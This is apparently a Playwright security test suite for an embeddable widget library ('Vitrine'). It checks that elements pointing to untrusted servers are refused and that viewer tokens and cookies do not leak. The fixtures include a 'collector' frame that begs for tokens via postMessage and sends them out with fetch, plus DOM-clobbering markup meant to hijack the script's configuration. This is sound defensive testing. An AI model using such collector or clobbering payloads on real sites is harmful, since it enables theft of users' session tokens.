import type { Page, Request } from '@playwright/test';
import { servePages, type PageServer } from '../support/pages.ts';
import { expect, test as base, type Stage } from './stage.ts';

declare global {
  interface Window {
    /** Codes of what was refused, by the id of the element. */
    refused: [id: string, code: string, docsUrl: string | undefined][];
    sentences: string[];
  }
}

/** Listens at the document, as events bubble, from before the library runs. */
const listening = `<script>
window.refused = [];
window.sentences = [];
document.addEventListener('vitrine:error', ({ target, detail }) => {
  refused.push([target.id, detail.code, detail.docsUrl]);
  sentences.push(detail.message);
});
</script>`;

/** A frame of somebody who collects tokens: it asks, and gives away what it gets. */
const collector = `<!doctype html><title>Collector</title><script>
addEventListener('message', ({ data }) => data.value?.token && fetch('/collected?' + data.value.token));
for (const type of ['VITRINE_REQUEST_TOKEN', 'RETURNINGAI_WIDGET_REQUEST_TOKEN'])
  parent.postMessage(type[0] === 'V' ? { type, value: { protocol: 1, widgetId: 'x', reason: 'mount' } } : { type }, '*');
</script>`;

const test = base.extend<{ evil: PageServer }>({
  // oxlint-disable-next-line no-empty-pattern
  async evil({}, use) {
    const server = await servePages('localhost', { '/embed': collector, '/foreign': collector });
    await use(server);
    await server.close();
  },
});

interface Arranged {
  page: Page;
  /** Requests of the page to its own backend. */
  backend: string[];
}

/** Opens a page with the given markup. `SERVER` is the server of the page's frames, `EVIL` another one. */
async function open(stage: Stage, evil: string, markup: string): Promise<Arranged> {
  const { page, host, frames } = stage;
  const backend: string[] = [];
  await page.route('**/api/**', (route) => {
    backend.push(new URL(route.request().url()).pathname);
    return route.fulfill({ json: { token: `of-the-viewer-${backend.length}` } });
  });
  host.set(
    '/declared',
    `<!doctype html><meta charset="utf-8"><title>Declared</title>${listening}${markup.replaceAll('SERVER', frames.origin).replaceAll('EVIL', evil)}`,
  );
  await page.goto(`${host.origin}/declared`);
  await page.waitForLoadState();
  return { page, backend };
}

const tagOf = (attributes: string): string => `<script src="/vitrine.js" ${attributes}></script>`;
const configure = (options: string): string => `<script src="/vitrine.js"></script><script>Vitrine.configure(${options})</script>`;

/** Ways in which a page says where its frames come from and where their tokens do. */
const pages: Record<string, string> = {
  'the script tag': tagOf('data-vitrine-server="SERVER" data-vitrine-tenant="acme" data-vitrine-refresh-url="/api/token"'),
  'configure with an address': configure(`{ server: 'SERVER', tenant: 'acme', refreshUrl: '/api/token' }`),
  'configure with a callback': configure(
    `{ server: 'SERVER', tenant: 'acme', getToken: () => fetch('/api/token', { method: 'POST' }).then((response) => response.json()) }`,
  ),
  'two servers': `${tagOf('data-vitrine-server="SERVER" data-vitrine-tenant="acme" data-vitrine-refresh-url="/api/token"')}
    <script>Vitrine.allow({ server: 'https://other.example', tenant: 'acme', refreshUrl: '/api/other' })</script>`,
  'only a script': '<script src="/vitrine.js"></script>',
};

const evilElements: Record<string, string> = {
  'with an address of its own': 'data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-refresh-url="/api/token"',
  'with the token source of the page': 'data-vitrine-server="EVIL" data-vitrine-tenant="acme"',
  'with nothing else': 'data-vitrine-server="EVIL"',
  'with a token of its own': 'data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-token="mine"',
  'with an embed key': 'data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-embed-key="embk_live_1"',
  'with a sign-in by e-mail': 'data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-embed-key="embk_live_1" data-vitrine-magic-link="true"',
  'as a foreign frame': 'data-vitrine-dialect="returningai" data-vitrine-src="EVIL/embed" data-vitrine-widget-id="w" data-vitrine-refresh-url="/api/token"',
  'as a foreign frame without an address': 'data-vitrine-dialect="returningai" data-vitrine-src="EVIL/embed" data-vitrine-widget-id="w"',
  'as an address without a dialect': 'data-vitrine-src="EVIL/embed"',
};

test.describe('H1 an element that names a server of its own is refused, and neither asks for a token nor loads anything:', () => {
  for (const [how, said] of Object.entries(pages)) {
    test(how, async ({ stage, evil }) => {
      const elements = Object.entries(evilElements).map(
        ([name, attributes]) => `<div id="${name}" data-vitrine="${attributes.includes('src=') ? '' : 'receipt-list'}" ${attributes}></div>`,
      );
      const { page, backend } = await open(stage, evil.origin, said + elements.join(''));
      await page.waitForFunction((count) => window.refused.length >= count, elements.length);
      expect(await page.evaluate(() => window.refused.map(([id, code]) => [id, code]))).toEqual(
        Object.keys(evilElements).map((id) => [id, 'element_not_allowed']),
      );
      expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
      expect([backend, evil.requests]).toEqual([[], []]);
      // What is refused is documented where the page says, not where the element does.
      const docs = new Set(await page.evaluate(() => window.refused.map(([, , docsUrl]) => docsUrl)));
      expect(docs).toEqual(new Set([how === 'only a script' ? undefined : `${stage.frames.origin}/errors#element_not_allowed`]));
    });
  }
});

test('H1 the collector would get a token from a page that lists it', async ({ stage, evil }) => {
  const { page } = await open(
    stage,
    evil.origin,
    `${tagOf('data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-refresh-url="/api/token"')}<div data-vitrine="receipt-list"></div>`,
  );
  await expect.poll(() => evil.requests.filter((request) => request.includes('collected'))).toEqual(['GET /collected?of-the-viewer-1']);
  expect(await page.evaluate(() => window.refused)).toEqual([]);
});

test('H1 an element sends the page’s cookies to no address but those that the page has listed', async ({ stage, evil }) => {
  const attributes = ['/api/sign-out', 'api/token', '/api/token/', '/api/token?x=1', '//127.0.0.1/api/token', 'http://[', 'EVIL/api/token'];
  const elements = attributes.map((url) => `<div id="${url}" data-vitrine="receipt-list" data-vitrine-tenant="acme" data-vitrine-refresh-url="${url}"></div>`);
  const said = tagOf('data-vitrine-server="SERVER" data-vitrine-refresh-url="/api/tokens /api/x"');
  const { page, backend } = await open(stage, evil.origin, said + elements.join(''));
  await page.waitForFunction((count) => window.refused.length === count, elements.length);
  expect(new Set(await page.evaluate(() => window.refused.map(([, code]) => code)))).toEqual(new Set(['element_not_allowed']));
  expect([backend, evil.requests]).toEqual([[], []]);
});

test.describe('H1 no element combines parts of two sources:', () => {
  const said = `<script src="/vitrine.js"></script><script>
Vitrine.configure({ server: 'SERVER', tenant: 'acme', embedKey: 'embk_live_1',
  getToken: () => fetch('/api/token', { method: 'POST' }).then((response) => response.json()) });
Vitrine.allow({ server: 'EVIL', tenant: 'partner', refreshUrl: '/api/partner' });
Vitrine.allow({ dialect: 'returningai', src: 'EVIL/foreign', widgetId: 'w', refreshUrl: '/api/foreign' });
</script>`;
  const mixtures: Record<string, string> = {
    'the partner under the tenant of the page': 'data-vitrine-server="EVIL" data-vitrine-tenant="acme"',
    'the partner with the address of the foreign frame': 'data-vitrine-server="EVIL" data-vitrine-refresh-url="/api/foreign"',
    'the foreign frame with the address of the partner':
      'data-vitrine-dialect="returningai" data-vitrine-src="EVIL/foreign" data-vitrine-refresh-url="/api/partner"',
    'the foreign frame under another widget id': 'data-vitrine-dialect="returningai" data-vitrine-src="EVIL/foreign" data-vitrine-widget-id="other"',
    'another address of the foreign origin': 'data-vitrine-dialect="returningai" data-vitrine-src="EVIL/foreign?of=another"',
    'the page’s server with the address of the partner': 'data-vitrine-server="SERVER" data-vitrine-refresh-url="/api/partner"',
    'the page’s token for another tenant': 'data-vitrine-tenant="evil"',
    'the page’s token for another embed key': 'data-vitrine-embed-key="embk_live_2"',
    'a token of its own and then the page’s, for another tenant':
      'data-vitrine-tenant="evil" data-vitrine-token="mine" data-vitrine-refresh-url="/api/partner"',
  };
  for (const [name, attributes] of Object.entries(mixtures)) {
    test(name, async ({ stage, evil }) => {
      const { page, backend } = await open(
        stage,
        evil.origin,
        `${said}<div id="mixed" data-vitrine="${attributes.includes('src=') ? '' : 'receipt-list'}" ${attributes}></div>`,
      );
      await page.waitForFunction(() => window.refused.length === 1);
      expect(await page.evaluate(() => window.refused[0]?.slice(0, 2))).toEqual(['mixed', 'element_not_allowed']);
      expect([backend, evil.requests, await page.evaluate(() => document.querySelectorAll('iframe').length)]).toEqual([[], [], 0]);
    });
  }

  test('each of them, named as it is listed, gets its own', async ({ stage, evil }) => {
    const { page, backend } = await open(
      stage,
      evil.origin,
      `${said}
      <div id="ours" data-vitrine="receipt-list"></div>
      <div id="partner" data-vitrine="receipt-list" data-vitrine-server="EVIL"></div>
      <div id="foreign" data-vitrine="" data-vitrine-src="EVIL/foreign" data-vitrine-dialect="returningai"></div>`,
    );
    await expect.poll(() => backend.toSorted()).toEqual(['/api/foreign', '/api/partner', '/api/token']);
    const addresses = await page.evaluate(() => [...document.querySelectorAll('iframe')].map(({ src }) => src));
    expect(addresses).toEqual([
      `${stage.frames.origin}/embed?tenant=acme&embedKey=embk_live_1`,
      `${evil.origin}/embed?tenant=partner`,
      `${evil.origin}/foreign`,
    ]);
    expect(await page.evaluate(() => window.refused)).toEqual([]);
  });
});

test('H1 pages whose elements name the server of the script go on as before, with a token, an embed key or a form of their own', async ({
  page,
  servers: { host, frames },
}) => {
  const server = `data-vitrine="receipt-list" data-vitrine-server="${frames.origin}" data-vitrine-tenant="acme"`;
  host.set(
    '/tag',
    `<!doctype html><title>Tag</title>${listening}
    <div ${server} data-vitrine-token="mine"></div>
    <div ${server} data-vitrine-embed-token="mine-too"></div>
    <div ${server} data-vitrine-embed-key="embk_live_1"></div>
    <div ${server} data-vitrine-embed-key="embk_live_2" data-vitrine-magic-link="true"></div>
    <script src="${frames.origin}/vitrine.js"></script>`,
  );
  await page.goto(`${host.origin}/tag`);
  await expect(page.locator('iframe')).toHaveCount(4);
  expect(await page.evaluate(() => window.refused)).toEqual([]);
});

test('H1 the server of the script is that of elements which name none', async ({ page, servers: { host, frames } }) => {
  host.set(
    '/tag',
    `<!doctype html><title>Tag</title><div data-vitrine="receipt-list" data-vitrine-tenant="acme"></div><script src="${frames.origin}/vitrine.js" ` +
      'data-vitrine-refresh-url="/api/token"></script>',
  );
  const posted: Request[] = [];
  await page.route('**/api/token', (route) => (posted.push(route.request()), route.fulfill({ json: { token: 'of-the-viewer' } })));
  await page.goto(`${host.origin}/tag`);
  await expect(page.locator('iframe')).toHaveAttribute('src', `${frames.origin}/embed?tenant=acme`);
  expect(posted.map((request) => request.method())).toEqual(['POST']);
});

test('H1 what is refused says the line that mends it, once it is written: the script tag, or a call', async ({ stage, evil }) => {
  const elements =
    '<div data-vitrine="receipt-list" data-vitrine-tenant="acme" data-vitrine-refresh-url="/api/token"></div><div data-vitrine="receipt-list" ' +
    'data-vitrine-server="EVIL"></div>';
  const { page } = await open(stage, evil.origin, tagOf('data-vitrine-server="SERVER"') + elements);
  await page.waitForFunction(() => window.sentences.length === 2);
  const sentences = await page.evaluate(() => window.sentences);
  expect(sentences[0]).toContain('data-vitrine-refresh-url="/api/token" into the script tag');
  expect(sentences[0]).toContain('embed.configure({ refreshUrl: "/api/token" })');
  expect(sentences[1]).toContain(`embed.allow({ server: "${evil.origin}" })`);
  await page.evaluate(() => {
    window.Vitrine.configure({ refreshUrl: '/api/token' });
    window.Vitrine.mountAll();
  });
  await expect(page.locator('iframe')).toHaveCount(1);
});

test('H1 a page that has configured another server than that of its script has given up what goes with the script', async ({ stage, evil }) => {
  const { page, backend } = await open(
    stage,
    evil.origin,
    `${tagOf('data-vitrine-server="EVIL" data-vitrine-tenant="x" data-vitrine-refresh-url="/api/token" data-vitrine-theme="dark"')}
    <script>Vitrine.configure({ server: 'SERVER', tenant: 'acme', token: 'ours' })</script><div data-vitrine="receipt-list"></div>`,
  );
  await expect(page.locator('iframe')).toHaveAttribute('src', `${stage.frames.origin}/embed?tenant=acme`);
  const frame = await stage.frame();
  expect(await frame.evaluate(() => window.answers[0])).toMatchObject({ token: 'ours', config: { theme: 'dark' } });
  expect([backend, evil.requests]).toEqual([[], []]);
});

test.describe('H1 elements that answer to names of the page take no authority:', () => {
  const clobbers: Record<string, string> = {
    'a form in place of the script':
      '<form name="currentScript" data-vitrine-server="EVIL" data-vitrine-refresh-url="/api/token"><input name="src" value="EVIL/vitrine.js"><input ' +
      'name="dataset"></form>',
    'an iframe in place of the script': '<iframe name="currentScript" srcdoc="x"></iframe>',
    'an image in place of the list of scripts': '<img name="scripts" src="EVIL/vitrine.js" alt="">',
    'a link in place of the global': '<a id="Vitrine" href="EVIL"></a><a id="Vitrine" name="configure" href="EVIL"></a>',
    'a field in place of the attributes of a form':
      '<form data-vitrine="receipt-list"><input name="dataset" data-vitrine-server="EVIL"><input name="dispatchEvent"></form>',
    'a script that is none':
      '<template><script src="EVIL/vitrine.js" type="module" data-vitrine-server="EVIL"></script></template><svg><a href="EVIL/vitrine.js"></a></svg>',
  };
  for (const [name, markup] of Object.entries(clobbers)) {
    test(name, async ({ stage, evil }) => {
      const element =
        '<div id="evil" data-vitrine="receipt-list" data-vitrine-tenant="acme" data-vitrine-server="EVIL" data-vitrine-refresh-url="/api/token"></div><div ' +
        'id="good" data-vitrine="receipt-list"></div>';
      const { page, backend } = await open(
        stage,
        evil.origin,
        `${markup}${element}${tagOf('data-vitrine-server="SERVER" data-vitrine-tenant="acme" data-vitrine-refresh-url="/api/token"')}`,
      );
      await expect(page.locator('#good iframe')).toHaveAttribute('src', `${stage.frames.origin}/embed?tenant=acme`);
      expect(await page.evaluate(() => window.refused.filter(([id]) => id === 'evil').map(([, code]) => code))).toEqual(['element_not_allowed']);
      await expect(page.locator('#evil iframe')).toHaveCount(0);
      expect([backend, evil.requests.filter((request) => !request.includes('vitrine.js'))]).toEqual([['/api/token'], []]);
    });
  }
});

test('H1 a tag with an option that does not fit says so, and elements then have nothing of it', async ({ stage, evil }) => {
  const { page } = stage;
  const errors: string[] = [];
  page.on('pageerror', ({ message }) => errors.push(message));
  const { backend } = await open(
    stage,
    evil.origin,
    `${tagOf('data-vitrine-server="SERVER" data-vitrine-them="dark" data-vitrine-refresh-url="/api/token"')}<div data-vitrine="receipt-list" ` +
      'data-vitrine-server="SERVER" data-vitrine-tenant="acme"></div>',
  );
  await page.waitForFunction(() => window.refused.length === 1);
  expect(errors[0]).toContain('"them"');
  expect(backend).toEqual([]);
});

test('H1 allow refuses what names nobody, and what an option refuses elsewhere', async ({ stage }) => {
  const codes = await stage.page.evaluate(() =>
    [{}, { tenant: 'acme' }, { server: 'https://*.acme.com' }, { serverr: 'x' }, { server: 'https://acme.com', src: 'https://acme.com/x' }].map((options) => {
      try {
        window.Vitrine.allow(options as object);
        return 'taken';
      } catch (error) {
        return (error as { code: string }).code;
      }
    }),
  );
  expect(codes).toEqual(['invalid_option', 'invalid_option', 'invalid_option', 'unknown_option', 'conflicting_options']);
});
